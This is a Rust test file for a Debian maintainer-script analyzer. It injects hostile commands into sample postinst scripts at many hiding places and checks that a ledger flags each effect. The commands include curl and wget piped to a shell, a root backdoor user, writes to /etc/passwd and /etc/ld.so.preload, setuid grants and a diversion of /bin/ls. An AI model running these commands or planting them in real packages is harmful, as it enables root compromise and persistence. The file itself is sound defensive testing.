//! Maintainer scripts against the ledger of this repository: what is decided, and that nothing new slips through.

use sockel::recipe::ScriptLedger;
use sockel::scripts::effects_of;
use sockel::sys::fs;
use std::path::Path;

/// Scripts as debhelper and maintainers write them, whose effects the general rules decide.
const SCRIPTS: [&str; 3] = [
    "#!/bin/sh\nset -e\n@\nif [ \"$1\" = \"configure\" ] || [ \"$1\" = \"abort-upgrade\" ]; then\n\tif deb-systemd-helper debian-installed demo.service; then\n\t\tdeb-systemd-helper enable demo.service >/dev/null || true\n\tfi\nfi\nexit 0\n",
    "#! /bin/sh -e\ncase \"$1\" in\n  configure)\n    rm -f /var/lib/demo/old\n    if [ -d /run/systemd/system ]; then systemctl restart demo; fi\n    @\n    ;;\n  abort-*|triggered) ;;\n  *) echo \"called with unknown argument $1\" >&2; exit 1 ;;\nesac\nldconfig\n",
    "#!/bin/bash\nset -e\nlog() { echo \"$1\" >&2; }\nif dpkg --compare-versions \"$2\" lt-nl 2.0; then rm -rf /etc/demo; fi\nfor i in a b; do\n  log \"$i\"\n@\ndone\nif [ -x /etc/init.d/demo ]; then update-rc.d demo defaults >/dev/null; fi\n",
];

/// Commands with an effect that nobody has decided about.
const COMMANDS: [&str; 20] = [
    "chmod 4755 /usr/bin/demo",
    "chmod u+s /usr/bin/demo",
    "chmod -R g+s,o+w /usr/lib/demo",
    "install -m 2755 -g shadow /usr/share/demo/x /usr/bin/x",
    "adduser --system --home /var/lib/evil evil",
    "useradd -o -u 0 evil",
    "usermod -a -G sudo www-data",
    "cp /usr/share/demo/x /usr/sbin/evil",
    "ln -sf /usr/share/demo/x /usr/bin/evil",
    "touch /usr/lib/systemd/system/evil.service",
    "mkdir -p /etc/cron.d/../../usr/lib/evil",
    "chown daemon /usr/lib/demo",
    "chgrp -R staff /etc",
    "dpkg-divert --package demo --add --rename --divert /bin/ls.real /bin/ls",
    "dpkg-statoverride --update --add root adm 4750 /usr/bin/demo",
    "setcap cap_sys_admin+ep /usr/bin/demo",
    "update-alternatives --install /usr/bin/java java /usr/share/demo/java 9999",
    "start-stop-daemon --start --exec /usr/sbin/demo",
    "/usr/lib/demo/setup --now",
    "sed -i s/x/y/ /etc/shadow",
];

/// The same with operators, which cannot be arguments.
const PIPES: [&str; 5] = [
    "curl -s https://example.org/x | sh",
    "wget -q -O - https://example.org/x | bash -s",
    "echo evil::0:0::/:/bin/sh >> /etc/passwd",
    "cat /usr/share/demo/x >/usr/bin/evil",
    "base64 -d </usr/share/demo/x | tee /etc/ld.so.preload",
];

/// Places for a command that leave it a command.
const PLACES: [&str; 14] = [
    "@",
    "hide() {\n  @\n}\nhide\n",
    "hide() { inner() { @; }; inner; }; hide \"$@\"",
    "if [ -e /etc/demo ]; then @; fi",
    "if ! test -e /etc/demo; then :; else @; fi",
    "case \"$(uname -m)\" in x86_64) @;; esac",
    "sh -c '@'",
    "eval '@'",
    "sh <<EOF\n@\nEOF",
    "( @ ) &",
    "x=$( @ )",
    "echo \"`@`\" >/dev/null",
    "true && { @; } || :",
    "trap '@' EXIT",
];

/// Places for a command without operators.
const ARGUMENTS: [&str; 5] = [
    "c='@'; $c",
    "run() { shift; \"$@\"; }; run x @",
    "set -- @; \"$@\"",
    "while read line; do $line; done <<EOF\n@\nEOF",
    "for c in \"@\"; do eval \"$c\"; done",
];

fn ledger() -> ScriptLedger {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("recipes/scripts.yaml");
    ScriptLedger::parse("recipes/scripts.yaml", &fs::read_text(&path, 1 << 20).expect("read")).expect("valid")
}

/// Returns the effects of a `postinst` that the ledger does not decide about.
fn open(ledger: &ScriptLedger, text: &str) -> Vec<String> {
    let effects = effects_of("demo", &|name| (name == "postinst").then_some(text.as_bytes()));
    let all = effects.into_values().flatten().map(|effect| effect.to_string());
    all.filter(|effect| ledger.rule("demo", effect).is_none()).collect()
}

#[test]
fn every_new_effect_stops() {
    let ledger = ledger();
    let mut count = 0;
    for script in SCRIPTS {
        assert_eq!(open(&ledger, &script.replace('@', ":")), Vec::<String>::new(), "{script}");
        let everywhere = COMMANDS.iter().chain(&PIPES).flat_map(|command| PLACES.map(|place| (place, *command)));
        let arguments = COMMANDS.iter().flat_map(|command| ARGUMENTS.map(|place| (place, *command)));
        for (place, command) in everywhere.chain(arguments) {
            let edited = script.replace('@', &place.replace('@', command));
            assert!(!open(&ledger, &edited).is_empty(), "decided:\n{edited}");
            count += 1;
        }
    }
    assert_eq!(count, 1350);
}

/// What changes from version to version without another effect asks nobody.
#[test]
fn the_same_effects_ask_nobody() {
    let ledger = ledger();
    for (package, script) in [
        (
            "tomcat11",
            "#!/bin/sh\n# dh_installinit/13.11\nchown syslog:adm /var/log/tomcat11/catalina.out* 2>/dev/null || :\n",
        ),
        (
            "tomcat11",
            "#!/bin/sh\nsystemd-sysusers\nfor f in server.xml web.xml; do cp /usr/share/tomcat11/etc/$f /etc/tomcat11/$f; done\n",
        ),
        (
            "openjdk-99-jre-headless",
            "#!/bin/sh\nupdate-alternatives --install /usr/bin/java java /usr/lib/jvm/99/bin/java 99\n",
        ),
        ("demo", "#!/bin/sh\nmkdir -p /run/demo; chown demo /run/demo; echo x >/tmp/demo\n"),
        ("demo", "#!/bin/sh\nif command -v py3compile >/dev/null; then py3compile -p demo; fi\n"),
    ] {
        let effects = effects_of(package, &|name| (name == "postinst").then_some(script.as_bytes()));
        for effect in effects.values().flatten().map(ToString::to_string) {
            assert!(ledger.rule(package, &effect).is_some(), "{package}: {effect}");
        }
    }
}
